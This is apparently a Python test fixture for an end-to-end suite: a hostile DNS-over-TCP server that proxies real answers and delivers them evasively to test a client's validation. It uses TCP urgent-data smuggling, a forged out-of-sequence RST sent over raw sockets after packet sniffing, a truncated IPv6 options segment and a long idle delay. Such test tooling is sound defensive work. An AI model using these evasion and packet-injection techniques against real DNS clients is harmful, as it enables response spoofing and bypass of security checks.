#!/usr/bin/env python3
# A hostile DNS-over-TCP server for tests/e2e/dns-tcp-attacks (run in the
# DNS namespace): it asks the real DNS server (argv[1]) over UDP and hands
# the answer to the client in a way meant to slip past the client's check
# of high-security answers.  One listener per ADDR=MODE argument:
#   urg    the answer with an extra byte inside "pq1" sent as urgent data
#          (the application's stream leaves it out: checked and read differ)
#   rst    a reset from the server's side 1000 bytes out of sequence (the
#          host ignores it), then the answer with its length prefix apart
#   v6opt  IPv6 with a destination-options header, the answer cut inside
#          "pq1" (a segment the client cannot parse)
#   idle   125 s of silence, then the answer cut (a mark that expired)
# Prints "ready" once listening.
import socket, struct, sys, threading, time
def ask(up, msg):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3)
    try:
        u.sendto(msg, (up, 53)); return u.recv(65535)
    finally: u.close()
def rx(c, n):
    b = b""
    while len(b) < n:
        r = c.recv(n - len(b))
        if not r: return None
        b += r
    return b
def plain_query():
    name = b"".join(bytes([len(l)]) + l for l in b"plain.test.example".split(b".")) + b"\0"
    return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\x00\x01\x00\x01"
def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return (~s) & 0xffff
def sniff_ack(ps, cport):
    while True:
        f = ps.recv(65535)
        if f[12:14] != b"\x08\x00": continue
        ip = f[14:]; ihl = (ip[0] & 15) * 4
        if ip[9] != 6: continue
        t = ip[ihl:]
        sp, dp = struct.unpack("!HH", t[:4])
        doff = (t[12] >> 4) * 4
        if sp == cport and dp == 53 and len(ip) - ihl - doff > 0:
            return ip[12:16], ip[16:20], struct.unpack("!I", t[8:12])[0], struct.unpack("!I", t[4:8])[0]
def send_rst(cli, srv, cport, seq, ack):
    tcp = struct.pack("!HHIIBBHHH", 53, cport, seq, ack, 5 << 4, 0x14, 65535, 0, 0)
    ph = srv + cli + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
    iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, srv, cli)
    iph = iph[:10] + struct.pack("!H", csum(iph)) + iph[12:]
    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    r.sendto(iph + tcp, (socket.inet_ntoa(cli), 0)); r.close()
def serve(c, up, mode, ps=None):
    c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if mode == "v6opt":
        c.setsockopt(socket.IPPROTO_IPV6, 59, b"\x00\x00\x01\x04\x00\x00\x00\x00")
    h = rx(c, 2); q = rx(c, int.from_bytes(h, "big"))
    if mode == "rst":
        cli, srv, ack, cseq = sniff_ack(ps, c.getpeername()[1])
        send_rst(cli, srv, c.getpeername()[1], ack + 1000, cseq)
        print("rst sent seq", ack + 1000, "(next is", ack, ")", flush=True)
        time.sleep(0.5)
    a = ask(up, q)
    if mode in ("rst", "v6opt"):
        fr = len(a).to_bytes(2, "big") + a
        cut = fr.find(b"pq1") + 2 if mode == "v6opt" else 2
        c.sendall(fr[:2]); time.sleep(0.3); c.sendall(fr[2:cut]); time.sleep(0.3); c.sendall(fr[cut:])
        print(mode, "sent cut", flush=True)
        time.sleep(5); c.close(); return
    print(mode, "answer", len(a), "last byte", a[-1], "label", a[12:16], flush=True)
    if mode == "idle":
        time.sleep(125)
        fr = len(a).to_bytes(2, "big") + a
        c.sendall(fr[:2]); time.sleep(0.3); c.sendall(fr[2:3]); time.sleep(0.3); c.sendall(fr[3:])
        time.sleep(5); c.close(); return
    assert a[-1] == 0
    w = a[:14] + b"Z" + a[14:-1]          # the worker's view: Z inside "pq1"
    pre = len(a).to_bytes(2, "big")
    c.setsockopt(socket.IPPROTO_TCP, socket.TCP_CORK, 1)
    c.send(pre + w[:14]); c.send(b"Z", socket.MSG_OOB); c.send(w[15:])
    c.setsockopt(socket.IPPROTO_TCP, socket.TCP_CORK, 0)
    time.sleep(0.3)
    b = ask(up, plain_query())
    assert len(b) < 256
    c.sendall(len(b).to_bytes(2, "big") + b)
    print("urg sent", flush=True)
    time.sleep(5); c.close()
def main():
    up = sys.argv[1]
    for spec in sys.argv[2:]:
        addr, mode = spec.split("=")
        fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((addr, 53)); s.listen(8)
        def loop(s=s, mode=mode):
            while True:
                ps = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) if mode == "rst" else None
                c, _ = s.accept(); threading.Thread(target=serve, args=(c, up, mode, ps), daemon=True).start()
        threading.Thread(target=loop, daemon=True).start()
    print("ready", flush=True)
    while True: time.sleep(60)
main()
